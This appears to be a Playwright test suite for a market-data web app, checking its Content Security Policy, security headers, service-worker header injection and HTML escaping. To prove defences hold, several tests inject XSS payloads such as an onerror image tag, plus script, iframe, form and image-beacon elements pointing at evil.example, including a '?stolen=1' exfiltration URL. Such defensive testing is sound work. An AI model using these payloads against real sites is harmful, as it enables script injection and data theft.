import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from '@playwright/test';
import { metaPolicy, securityHeaders } from '../src/sw/security-headers.ts';
import {
  appUrl,
  connection,
  expect,
  historyRows,
  leaveOversold,
  openApp,
  quoteCell,
  test,
} from './fixtures.ts';
import { showsNewPrice } from './watching.ts';

const OWN_HOSTS = ['localhost', '127.0.0.1'];

/** Violations of the policy in the page and in its workers, as they are reported. */
async function collectViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('tellViolation', (words: string) => violations.push(words));
  await page.addInitScript(() => {
    const { tellViolation } = globalThis as unknown as { tellViolation(words: string): void };
    document.addEventListener('securitypolicyviolation', (event) => {
      tellViolation(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) violations.push(message.text());
  });
  return violations;
}

/** Everything that the browser asks for, sockets among it. */
function collectAddresses(context: BrowserContext, page: Page): URL[] {
  const addresses: URL[] = [];
  context.on('request', (request) => addresses.push(new URL(request.url())));
  page.on('websocket', (socket) => addresses.push(new URL(socket.url())));
  return addresses;
}

/** The worker's own view, after the debugger's leave to evaluate text has ended. */
async function inEngine<T>(page: Page, ask: () => T | Promise<T>): Promise<T> {
  const [worker] = page.workers();
  if (!worker) throw new Error('the page has no worker');
  return worker.evaluate(ask);
}

test('a whole session breaks no policy, writes no error, and asks nobody else', async ({
  page,
  context,
  exchange,
}) => {
  const errors: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') errors.push(message.text());
  });
  page.on('pageerror', (error) => errors.push(String(error)));
  const violations = await collectViolations(page);
  const addresses = collectAddresses(context, page);

  await openApp(page, exchange);
  await expect(page.locator('canvas').first()).toBeVisible();
  leaveOversold(exchange);
  await expect(historyRows(page).filter({ hasText: 'RSI leaves oversold' })).toHaveCount(1);
  exchange.market.trade('BTCUSDT', '43508.20');
  await expect(quoteCell(page, 'BTCUSDT', 'Last')).toContainText('43,508.20');
  await page.getByRole('button', { name: 'Settings' }).first().click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.press('Escape');
  await page.evaluate(() => navigator.serviceWorker.ready);
  await page.reload();
  await expect(connection(page)).toContainText('CONNECTED');

  expect(violations).toEqual([]);
  expect(errors).toEqual([]);
  const strangers = addresses.filter(
    ({ protocol, hostname }) => /^(http|ws)s?:$/.test(protocol) && !OWN_HOSTS.includes(hostname),
  );
  expect(strangers.map(String)).toEqual([]);
  expect(addresses.map(({ protocol }) => protocol)).toContain('ws:');
  expect(addresses.map(({ pathname }) => pathname)).toContain('/api/v3/klines');
});

test('the headers come with the page and with its worker, and the page says the same', async ({
  page,
  request,
  exchange,
}) => {
  await openApp(page, exchange);
  const worker = page.workers()[0]?.url() ?? '';
  for (const address of ['./', worker, './service-worker.js']) {
    const headers = (await request.get(address)).headers();
    for (const [name, value] of Object.entries(securityHeaders)) {
      expect(headers[name.toLowerCase()], `${name} of ${address}`).toBe(value);
    }
  }
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveAttribute('content', metaPolicy);
  const file = await (await request.get('./_headers')).text();
  expect(file).toContain(`Content-Security-Policy: ${securityHeaders['Content-Security-Policy']}`);
});

test('what is injected into the page does not run, load or leave', async ({ page, exchange }) => {
  await openApp(page, exchange);
  const reported = await collectInjections(page);
  expect(reported).toEqual({
    ran: [],
    directives: [
      'base-uri',
      'form-action',
      'frame-src',
      'img-src',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ],
  });
});

/** Tries what an injection would try; tells what ran, and which directives were reported. */
function collectInjections(page: Page) {
  return page.evaluate(async () => {
    const ran: string[] = [];
    Object.assign(globalThis, { ran });
    const directives = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      directives.add(effectiveDirective),
    );
    const add = (tag: string, properties: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(properties)) element.setAttribute(name, value);
      element.append(properties['text'] ?? '');
      document.body.append(element);
      return element;
    };
    // Past this, the debugger's leave to turn text into code has ended.
    await new Promise((resolve) => {
      setTimeout(resolve);
    });
    add('script', { text: 'ran.push("inline script")' });
    add('script', { src: 'data:text/javascript,ran.push("data script")' });
    add('script', { src: 'https://evil.example/script.js' });
    add('style', { text: 'body { color: red }' });
    add('p', { style: 'color: red' });
    add('base', { href: 'https://evil.example/' });
    add('iframe', { src: 'https://evil.example/' });
    add('object', { data: 'https://evil.example/object' });
    add('img', { src: 'https://evil.example/?stolen=1' });
    add('img', { src: 'data:,', onerror: 'ran.push("handler")' });
    add('a', { href: 'javascript:ran.push("link")' }).click();
    const form = add('form', { action: 'https://evil.example/', method: 'post' });
    if (form instanceof HTMLFormElement) form.submit();
    try {
      new Function('ran.push("eval")')();
    } catch (error) {
      if (!(error instanceof EvalError)) throw error;
    }
    await new Promise((resolve) => {
      setTimeout(resolve, 500);
    });
    return { ran, directives: [...directives].toSorted() };
  });
}

test('the policy binds the engine as well', async ({ page, exchange }) => {
  await openApp(page, exchange);
  const answers = await inEngine(page, async () => {
    await new Promise((resolve) => {
      setTimeout(resolve);
    });
    const outcome = async (attempt: () => unknown) => {
      try {
        await attempt();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'refused';
      }
    };
    const reported: string[] = [];
    self.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      reported.push(`${effectiveDirective} ${blockedURI}`),
    );
    const script: string = 'data:text/javascript,export{}';
    const outcomes = {
      code: await outcome(() => new Function('return 1')()),
      script: await outcome(() => import(/* @vite-ignore */ script)),
      plain: await outcome(() => fetch('http://evil.example/')),
    };
    // Reports come in a task of their own.
    await new Promise((resolve) => {
      setTimeout(resolve, 200);
    });
    return { ...outcomes, reported };
  });
  expect(answers).toMatchObject({ code: 'EvalError', script: 'TypeError', plain: 'TypeError' });
  expect(answers.reported).toContain('connect-src http://evil.example/');
});

test('on a host that sends no headers, the service worker adds them from the second visit on', async ({
  page,
  request,
  exchange,
  baseURL,
}) => {
  // The same site, its security headers taken off on the way.
  const bare = createServer((asked, answer) => {
    void request.get(new URL(asked.url ?? '', baseURL).href).then(async (response) => {
      const { 'content-type': type = 'text/plain' } = response.headers();
      answer.writeHead(response.status(), { 'Content-Type': type }).end(await response.body());
    });
  });
  await new Promise<void>((resolve) => {
    bare.listen(0, '127.0.0.1', resolve);
  });
  const { port } = bare.address() as AddressInfo;
  const url = new URL(appUrl(exchange), `http://127.0.0.1:${port}/`).href;
  const violations = await collectViolations(page);

  const first = await page.goto(url);
  expect(first?.headers()['content-security-policy']).toBeUndefined();
  await page.evaluate(() => navigator.serviceWorker.ready);
  const second = await page.goto(url);
  expect(second?.fromServiceWorker()).toBe(true);
  for (const [name, value] of Object.entries(securityHeaders)) {
    expect(second?.headers()[name.toLowerCase()], name).toBe(value);
  }
  await expect(connection(page)).toContainText('CONNECTED');
  await showsNewPrice(page, exchange);
  const code = await inEngine(page, async () => {
    await new Promise((resolve) => {
      setTimeout(resolve);
    });
    try {
      return String(new Function('return 1')());
    } catch (error) {
      return error instanceof Error ? error.name : '';
    }
  });
  expect(code).toBe('EvalError');
  expect(violations).toEqual([]);
  bare.closeAllConnections();
  bare.close();
});

test('text from the exchange is shown as text or refused, never as markup', async ({
  page,
  exchange,
}) => {
  const markup = '<img src=x onerror=alert(1)>';
  const info = await (await fetch(`${exchange.restUrl}/api/v3/exchangeInfo`)).text();
  // An asset with markup for a name, and a symbol with markup for one.
  const text = info
    .replaceAll('"baseAsset":"SOL"', `"baseAsset":"${markup}"`)
    .replaceAll('"symbol":"XRPUSDT"', `"symbol":"${markup}"`);
  expect(text.split(markup)).toHaveLength(3);
  exchange.faults.rest.add({ kind: 'body', text }, { match: '/exchangeInfo' });
  const violations = await collectViolations(page);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });

  await openApp(page, exchange);
  await page.getByRole('combobox').first().fill('sol');
  await expect(page.getByRole('option', { name: /SOLUSDT/ })).toContainText(markup);
  await page.keyboard.press('Escape');
  const trade = { e: 'trade', E: 1, s: markup, t: 1, p: markup, q: '1', T: 1, m: true };
  exchange.faults.sendPayload('btcusdt@trade', JSON.stringify(trade));
  exchange.faults.sendRaw(`{"error":{"code":2,"msg":"${markup}"}}`);
  exchange.faults.closeAll(1008, markup);
  await exchange.until(
    'the app is back',
    () => exchange.stats.opened === 2 && exchange.subscribers('btcusdt@trade') === 1,
  );
  exchange.market.trade('BTCUSDT', '43508.20');
  await expect(quoteCell(page, 'BTCUSDT', 'Last')).toContainText('43,508.20');

  await expect(page.locator('img[src="x"]')).toHaveCount(0);
  expect(dialogs).toEqual([]);
  expect(violations).toEqual([]);
});

test('a link that names another exchange connects to nobody', async ({ page, context }) => {
  const addresses = collectAddresses(context, page);
  await page.goto('./?feed=demo&stream=wss://evil.example&rest=https://evil.example');
  await expect(page.getByText(/wss:\/\/evil\.example/)).toBeVisible();
  await expect(quoteCell(page, 'BTCUSDT', 'Last')).toContainText(/\d/);
  expect(addresses.filter(({ hostname }) => !OWN_HOSTS.includes(hostname))).toEqual([]);
});
